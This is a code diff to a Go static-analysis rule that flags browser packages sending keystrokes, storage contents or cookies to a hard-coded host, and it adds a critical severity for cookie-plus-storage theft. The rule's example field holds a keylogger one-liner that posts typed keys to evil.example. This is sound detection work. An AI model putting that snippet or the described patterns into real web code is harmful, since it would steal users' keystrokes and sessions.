@@ -20,12 +20,13 @@ type PageExfil struct{}
 // Meta implements analyze.Rule.
 func (PageExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/page-exfil", Version: 1, Title: "Sends what users type or store to a hard-coded host",
+		ID: "browser/page-exfil", Version: 2, Title: "Sends what users type or store to a hard-coded host",
 		Help: "Browser code sends page data to a constant URL on a host that is neither local nor a known CDN or registry: keystrokes " +
 			"buffered by a keydown/keypress/keyup listener on the page (a keylogger; a shortcut handler compares keys, it does not keep " +
 			"them), the whole of localStorage or sessionStorage enumerated (session tokens and wallet state; a storage library reads its " +
 			"own keys), or the bodies of requests a service worker intercepts in its fetch handler. In a multi-megabyte bundle the pieces " +
-			"must sit close together.",
+			"must sit close together. A whole store enumerated by a file (not a bundle) that also reads document.cookie is critical: " +
+			"the sessions of every user of the site.",
 		Remediation:     "Remove the package from any site build, rotate the sessions and tokens of users who loaded it, and check which builds shipped it.",
 		Example:         `document.addEventListener("keydown", e => buf.push(e.key)); setInterval(() => fetch("https://evil.example/k", { method: "POST", body: buf.join("") }), 5000)`,
 		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
@@ -56,8 +57,13 @@ func (PageExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporte
 		if what == "" {
 			continue
 		}
-		r.Report(analyze.Instance{File: f.Name, Line: at.Line, Confidence: finding.ConfidenceHigh,
-			Message: fmt.Sprintf("%s and sends to %s", what, dest), Evidence: rulekit.Ev(destSnip, dest, "")})
+		in := analyze.Instance{File: f.Name, Line: at.Line, Confidence: finding.ConfidenceHigh,
+			Message: fmt.Sprintf("%s and sends to %s", what, dest), Evidence: rulekit.Ev(destSnip, dest, "")}
+		if strings.HasPrefix(what, "enumerates ") && !f.Facts.Bundle() && slices.ContainsFunc(f.Facts.Members, func(m jsast.Member) bool { return m.Name == "document.cookie" }) {
+			// the session cookies with the whole store: a session thief
+			in.Severity, in.Message = finding.SeverityCritical, fmt.Sprintf("%s and the page's cookies and sends them to %s", what, dest)
+		}
+		r.Report(in)
 	}
 	return nil
 }
